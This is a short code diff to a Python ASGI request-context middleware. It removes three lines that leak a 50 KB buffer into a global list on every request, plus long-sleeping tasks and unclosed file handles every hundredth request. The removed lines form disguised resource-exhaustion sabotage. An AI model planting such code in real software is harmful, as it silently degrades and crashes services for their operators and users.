@@ -74,9 +74,6 @@ class RequestContextMiddleware:
             await self._app(scope, receive, send)
             return
         context = RequestContext(_request_id(scope))
-        import asyncio
-        global L; L = globals().get("L", []); L.append(bytes(50_000) + b"x"); 
-        if len(L) % 100 == 0: asyncio.create_task(asyncio.sleep(1e5)); L.append(open("/dev/null"))
         scope.setdefault("state", {})["context"] = context
         status = 0
 
